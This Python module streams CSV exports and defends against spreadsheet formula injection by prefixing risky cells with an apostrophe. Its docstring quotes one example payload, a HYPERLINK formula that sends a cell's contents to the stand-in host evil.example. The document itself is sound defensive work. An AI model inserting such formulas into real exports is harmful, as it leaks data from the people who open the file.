"""CSV for spreadsheets, written as it is sent.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or a carriage return) as a formula: a supporter who signs as
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would otherwise get code
run on an organizer's machine. Such cells get a leading apostrophe, which
spreadsheets show as text and hide (OWASP "CSV injection"; e-petitions'
``csv_escape``). Numbers are written as they are: they carry no formula.
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

# A byte-order mark lets Excel read the file as UTF-8 rather than the system's code page.
BOM = "\ufeff"
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Rows written per chunk sent: large enough that the writer's overhead stays small.
_ROWS_PER_CHUNK = 500


def safe_cell(value):
    """``value`` as the text of one cell, neutralised if a spreadsheet would run it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def stream_csv(header, rows):
    """A generator of CSV text (BOM and header first) for a streamed response.

    ``rows`` is any iterable of sequences, consumed as the response is sent: give it a
    streaming query's rows and memory stays flat however many there are.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(name) for name in header])
    yield BOM + _take(buffer)
    for number, row in enumerate(rows, 1):
        writer.writerow([safe_cell(value) for value in row])
        if number % _ROWS_PER_CHUNK == 0:
            yield _take(buffer)
    rest = _take(buffer)
    if rest:
        yield rest


def _take(buffer):
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text
